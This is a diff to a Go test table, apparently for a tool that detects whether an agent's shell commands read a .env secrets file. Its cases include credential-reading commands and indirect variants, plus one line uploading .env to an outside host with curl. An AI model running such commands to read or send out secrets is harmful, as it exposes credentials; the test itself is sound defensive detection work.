@@ -76,7 +76,7 @@ func TestReachedOtherwise(t *testing.T) {
 func TestIdle(t *testing.T) {
 	for command, want := range map[string]bool{
 		`cat .env`: true, `source .env`: true, `. ./.env`: true, `cp .env x`: true, `cp x .env`: false, `cp -t x .env`: true, `mv x .env`: false, `grep KEY .env`: true, `grep .env .gitignore`: false, `grep -e x .env`: true, `grep -f .env x`: true, `echo .env >> .gitignore`: false, `rm .env`: false,
-		`ls -l .env`: false, `test -f .env`: false, `git add .env`: true, `git check-ignore .env`: false, `docker run --env-file .env x`: true, `foo < .env`: true, `curl -F f=@.env https://x`: true, `find . -name .env`: false, `head -3 ./.env`: true, `python x.py .env`: true, `touch .env`: false, `export $(cat .env | xargs)`: true,
+		`ls -l .env`: false, `test -f .env`: false, `git add .env`: true, `git check-ignore .env`: false, `docker run --env-file .env x`: true, `foo < .env`: true, `curl -F f=@.env https://x`: true, `find . -name .env`: false, `head -3 ./.env`: true, `python x.py .env`: true, `touch .env`: false, `[ -f .env ] && x`: false, `[[ -f .env ]]`: false, `echo .env | xargs cat`: true, `xargs cat <<< .env`: true, `find . -name .env -exec cat {} ';'`: true, `find . -name .env -exec stat {} ';'`: false, `find . -name .env -delete`: false, `python3 -c 'print(open(".env").read())'`: true, `node -e 'r("fs").readFileSync(".env")'`: true, `sed 'r .env' x`: true, `sed 's/.env/x/' x`: false, `export $(cat .env | xargs)`: true,
 	} {
 		reads := slices.ContainsFunc(effects(command).Reads, func(r agent.Named) bool { return r.Path == "/w/.env" && !r.Idle })
 		if reads != want {
